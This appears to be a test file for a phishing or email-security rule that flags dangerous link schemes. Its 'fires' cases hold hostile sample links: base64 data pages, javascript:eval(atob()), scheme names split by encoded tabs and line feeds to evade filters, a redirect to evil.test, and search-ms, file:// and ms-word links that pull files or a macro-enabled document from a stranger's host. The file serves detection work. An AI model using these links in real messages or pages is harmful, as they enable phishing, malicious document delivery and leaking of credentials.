import { LURE, failed, link, signalCases } from '../../../tests/signalCases';
import dataJsLink from './data-js-link';

signalCases(dataJsLink, {
  fires: [
    ['a page in the link', { html: link('data:text/html;base64,AAAA') }],
    ['a program that unpacks', { html: link('javascript:eval(atob(1))') }],
    ['broken by a line feed', { html: link('java&#10;script:go()') }],
    ['broken by a tab', { html: link('d&#9;ata:text/html,x') }],
    ['a program that leads on', { html: link("javascript:location.href='https://evil.test'") }],
    [
      "a search in a stranger's folder",
      { html: link('search-ms:query=invoice&crumb=location:\\\\evil.test@80\\x') },
    ],
    ["a stranger's folder", { html: link('file://evil.test/a') }],
    ["a stranger's document", { html: LURE + link('ms-word:ofe|u|https://evil.test/a.docm') }],
    [
      "a folder of the sender's, whom the receiving server denies",
      { html: LURE + link('file://company.example/a'), authentication: failed },
    ],
  ],
  quiet: [
    ['a void link', { html: link('javascript:void(0)') }],
    ['a window of an old newsletter', { html: link("javascript:window.open('http://shop.example')") }],
    ['a picture', { html: link('data:image/png;base64,AAAA') }],
    ['a calendar entry', { html: link('data:text/calendar,BEGIN:VCALENDAR') }],
    ["the company's server", { html: link('file://server/minutes') }],
    ["the company's server by its full name", { html: link('file://files.company.example/minutes') }],
    ['minutes to edit in Word', { html: link('ms-word:ofe|u|https://team.sharepoint.com/a.docx') }],
  ],
});
